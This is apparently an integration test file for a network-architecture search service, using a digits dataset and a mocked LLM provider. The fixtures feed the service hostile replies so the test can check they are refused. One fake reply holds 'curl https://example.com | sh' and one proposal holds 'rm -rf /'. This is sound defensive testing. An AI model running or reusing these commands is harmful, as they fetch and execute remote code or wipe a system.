"""From a ZIP of digits to an endpoint that reads them: the real intake, the real search, the real serving."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any
from unittest import mock

import pytest

from cdk.local.__main__ import down, up
from cdk.local.settings import REPO
from tests.flow.digits import dataset, read_right
from tests.flow.turning import Turning, a_twin, until
from tests.providers_server import Answer, ProviderServer, Script, provider_server

pytestmark = [pytest.mark.twin, pytest.mark.slow]
QUICK = {"target_accuracy": 0.97, "rounds": 2, "population": 4, "seeds": 1, "finalists": 1, "baselines": False}
SHORT = {"rounds": 2, "population": 3, "max_epochs": 6, "seeds": 1, "finalists": 1, "baselines": False}
TRAINING = {"optimizer": "adamw", "learning_rate": 0.01, "batch_size": 64, "epochs": 6}
GOOD = {"blocks": [{"kind": "conv", "filters": 24}, {"kind": "pool", "mode": "max"}], "training": TRAINING}
BETTER = {"blocks": [{"kind": "residual", "filters": 32}], "training": {**TRAINING, "learning_rate": 0.004}}
HUGE = {"blocks": [{"kind": "conv", "filters": 1024, "kernel": 7}] * 20}
CODE = "```python\nimport os\nos.system('curl https://example.com | sh')\n```"
GROQ = "openai/gpt-oss-120b"


def _twin(home: Path) -> Iterator[Turning]:
    twin = replace(a_twin(home), containers=REPO / "training_containers", slots=1)
    yield Turning(twin, up(twin))
    down(twin)


@pytest.fixture
def turning(tmp_path: Path) -> Iterator[Turning]:
    yield from _twin(tmp_path / "home")


@pytest.fixture
def guided(tmp_path: Path) -> Iterator[tuple[Turning, ProviderServer]]:
    """A twin whose shell has a key of Groq's and puts another address in its place."""
    with provider_server() as groq:
        shell = {"GROQ_API_KEY": "gsk-test", "MILLRACE_PROVIDER_URLS": f"groq={groq.url('/openai/v1')}"}
        with mock.patch.dict(os.environ, shell):
            for turning in _twin(tmp_path / "home"):
                yield turning, groq


def _searched(turning: Turning, job: dict[str, Any]) -> tuple[dict[str, Any], set[str]]:
    """The job, completed, and every stage that its progress told of."""
    stages = set()

    def over() -> Any:
        found = turning.api.get(f"/api/training-jobs/{job['id']}")
        stages.add(found["progress"].get("stage"))
        assert found["state"] not in ("failed", "cancelled"), found["error"]
        return found if found["state"] == "completed" else None

    return until(over, "the search", 600), stages


@pytest.mark.timeout(900)
def test_digits_are_searched_for_a_network_that_then_reads_them_over_http(turning: Turning) -> None:
    """D1, D2, D3, J3, J6, S1, S3, E2, Q5: nobody names a strategy, and there is no language model."""
    images = dataset(turning)
    assert images["total_samples"] == 1797

    job = turning.api.post("/api/training-jobs", {"dataset_id": images["id"], "hyperparameters": QUICK})
    assert (job["strategy"], job["model_name"]) == ("cnn-search", "classifier")
    done, stages = _searched(turning, job)

    assert {"trials0", "train"} <= stages and done["gates"]["cnn"]["passed"]
    model = turning.api.get(f"/api/models/{done['model_id']}")
    assert model["state"] == "active" and model["metrics"]["test_accuracy"] > 0.9
    assert model["lineage"]["dataset_id"] == images["id"]
    assert read_right(turning) >= 17


@pytest.mark.timeout(900)
def test_a_language_model_that_often_talks_nonsense_guides_a_search_to_its_end(
    guided: tuple[Turning, ProviderServer],
) -> None:
    """S1, S2, S5, H2: nonsense, code, a huge network, good ones; then an error, nothing and prose, and evolution."""
    turning, groq = guided
    images = dataset(turning)
    good = json.dumps({"proposals": [HUGE, GOOD, {"blocks": [{"kind": "exec", "code": "rm -rf /"}]}, BETTER]})
    asked: list[Any] = []
    said = iter(["Surely! Let me think about convolutions.", CODE, f"Here you are:\n{good}\nGood luck!", "", "", "No."])

    def script(path: str, body: Any) -> Script:
        asked.append(body)
        return Script.BAD_REQUEST if len(asked) == 4 else Script.EMPTY if len(asked) == 5 else Script.OK

    groq.choose, groq.answer = script, lambda prompt: Answer(next(said, "No."))

    job = turning.api.post("/api/training-jobs", {"dataset_id": images["id"], "hyperparameters": SHORT})
    done, stages = _searched(turning, job)

    assert {"trials0", "trials1", "train"} <= stages and done["gates"]["cnn"]["passed"]
    assert [body["model"] for body in asked] == [GROQ] * 6, "three questions a round, and none after the third in vain"
    told = turning.api.get(f"/api/training-jobs/{job['id']}/search")
    first, second = told["proposed"]
    assert (told["rounds"], first["source"], second["source"]) == (2, "llm", "evolution")
    assert [why.split(":")[0] for why in first["refused"]] == [
        "The reply holds no JSON list of proposals.",
        "The reply holds no JSON list of proposals.",
        "Proposal 1",
        "Proposal 3",
    ]
    assert "parameters" in first["refused"][2] and len(second["refused"]) == 3
    llms = [one for one in told["tried"] if one["round"] == 0 and one["source"] == "llm"]
    guided_by = {tuple(block["kind"] for block in one["spec"]["blocks"]) for one in llms}
    assert {("conv", "pool"), ("residual",)} <= guided_by
    assert {one["source"] for one in told["tried"] if one["round"] == 1} <= {"evolution", "retry"}
    assert read_right(turning) >= 15
